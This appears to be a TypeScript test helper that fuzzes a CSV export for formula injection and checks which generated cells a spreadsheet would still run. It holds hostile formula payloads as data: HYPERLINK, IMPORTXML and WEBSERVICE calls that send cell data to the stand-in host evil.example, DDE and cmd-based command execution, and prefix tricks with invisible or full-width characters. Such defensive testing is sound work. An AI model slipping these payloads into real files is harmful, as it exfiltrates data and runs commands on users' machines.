import { csvOf } from '../../../src/renderer/data/csv.ts'
import { seededRandom } from '../../../src/server/demo/random.ts'

const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '\u00a0=',
  '\ufeff=',
  '\u200b=',
  '\uff1d',
  '\uff0b',
  '\uff0d',
  '\uff20',
  '"=',
  "';=",
  ';=',
  ',=',
  '\t@',
  '|=',
  '\r\n=',
  '%=',
  '=\t',
]
const formulas = [
  'HYPERLINK("http://evil.example?"&A1;"click")',
  "cmd|' /C calc'!A0",
  'SUM(1+1)*cmd',
  'IMPORTXML("http://evil.example","//a")',
  'WEBSERVICE("http://evil.example/"&B2)',
  'DDE("cmd";"/C calc";"x")',
  '1+1',
  'A1:A9',
]
const middles = ['', 'dish ', 'a, b', 'a; b', 'a\tb', 'two\nlines ', '"quoted" ', 'x|y']

/** Cells meant to run as a formula in one spreadsheet or another, whatever separator it takes. */
export function hostileCells(count: number, seed: number): string[] {
  const { pick } = seededRandom(seed)
  return Array.from({ length: count }, () => {
    const cell = pick(starts) + pick(formulas)
    return pick([cell, cell, `${pick(middles)}${pick([';', ',', '\t', '\n', '\r\n', '"'])}${cell}`, `${cell}${pick(middles)}`])
  })
}

/** A file as a spreadsheet with this separator cuts it: a quote opens at the start of a cell alone, and is text elsewhere. */
function cellsBy(separator: string, text: string): string[] {
  const cells: string[] = []
  let cell = ''
  let isQuoted = false
  let isFresh = true
  const take = (sign: string): void => {
    cell += sign
    isFresh = false
  }
  for (let at = 0; at < text.length; at += 1) {
    const sign = text[at] ?? ''
    if (sign === '"' && isQuoted && text[at + 1] === '"') {
      take(sign)
      at += 1
    } else if (sign === '"' && isQuoted) isQuoted = false
    else if (sign === '"' && isFresh) {
      isQuoted = true
      isFresh = false
    } else if (!isQuoted && [separator, '\n', '\r'].includes(sign)) {
      cells.push(cell)
      cell = ''
      isFresh = true
    } else take(sign)
  }
  return [...cells, cell]
}

/** What a spreadsheet runs: it skips blanks and signs without width before the sign that begins a formula. */
const RUNS = /^[\s\u00a0\u200b\ufeff]*[=+\-@\uff0b\uff0d\uff1d\uff20]/

/** Cells of a file that would run, however it is cut. Plain numbers are none. */
export const running = (text: string): string[] =>
  [',', ';', '\t']
    .flatMap((separator) => cellsBy(separator, text))
    .filter((cell) => RUNS.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))

/** What of hostile cells still runs in the file that the screens would write. */
export const runningIn = (cells: readonly string[]): string[] => running(csvOf(cells.map((cell) => ['1', cell, 'Rs 5'])))
